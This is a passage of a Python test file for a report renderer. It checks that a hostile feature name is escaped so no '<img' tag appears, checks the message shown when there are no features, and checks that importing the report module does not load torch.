    def test_a_name_from_the_log_is_text(self):
        page = figures.features()
        page["features"][0]["name"] = HOSTILE
        assert "<img" not in render_features(page)

    def test_rows_without_any_column(self):
        assert "The rows have no statistic and no dense context column." in Page(render_features({"features": []})).text


def test_the_report_starts_without_torch():
    found = subprocess.run(
        [sys.executable, "-c", "import sys, ctr_kd.report; print('torch' in sys.modules)"],
        capture_output=True,
        text=True,
        check=True,
        timeout=HANGS,
    )
    assert found.stdout.strip() == "False"
